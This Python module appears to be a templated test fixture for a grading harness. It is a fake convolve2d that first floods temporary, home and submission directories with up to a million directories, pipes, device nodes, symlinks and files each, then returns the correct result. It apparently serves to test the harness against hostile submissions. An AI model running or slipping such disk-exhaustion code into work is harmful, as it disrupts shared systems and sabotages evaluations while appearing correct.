# mypy: ignore-errors
"""Fills the disk with small files, folders, links and pipes, wherever they can be made.

Attacks: convolve2d
Earns: nothing
Process level: cannot stop it
"""

import os

from chapter04_convolution import convolve2d as honest

PLACES = ["{temporary}", "{home}", "{submission}", "/tmp", "/var/tmp", "/dev/shm", "."]


def convolve2d(image, kernel):
    for place in PLACES:
        for make in (os.mkdir, os.mkfifo, os.mknod, lambda path: os.symlink("x", path), lambda path: open(path, "x")):
            for number in range(10**6):
                try:
                    make(os.path.join(place, "{marker}" + f"-{make.__name__}-{number}"))
                except OSError:
                    break
    return honest(image, kernel)
